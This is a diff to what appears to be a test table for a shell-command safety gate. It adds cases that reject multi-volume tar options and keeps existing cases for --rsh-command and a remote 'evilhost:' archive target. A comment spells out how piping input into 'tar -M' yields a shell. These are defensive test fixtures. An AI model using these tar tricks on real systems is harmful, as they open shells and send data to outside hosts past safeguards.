@@ -130,6 +130,12 @@ export const CASES: readonly GateCase[] = [
   c("names-a-program", "tar -cf a.tar -F id -M dir", false, /script/),
   c("names-a-program", "tar -cf a.tar --rsh-command=/tmp/x dir", false, /remote shell/),
   c("names-a-program", "tar -cf evilhost:a.tar dir", false, /remote shell/),
+  // multi-volume: `printf '!\nid\n' | tar -M -L 10 -cf a.tar big` starts a shell reading stdin
+  c("code-operand", "tar -Mcf a.tar -L 10 dir", false, /next volume/),
+  c("code-operand", "tar -c -L 10 -f a.tar dir", false, /next volume/),
+  c("abbreviation", "tar --multi-vol -xf a.tar", false, /next volume/),
+  c("code-operand", "tar cMf a.tar dir", false, /next volume/),
+  c("abbreviation", "tar --tape-len=10 -cf a.tar dir", false, /next volume/),
   ok("tar -xf a.tar"),
   ok("tar -tf /tmp/a.tar"),
   ok("tar -cf a.tar -C /usr/share dir"),
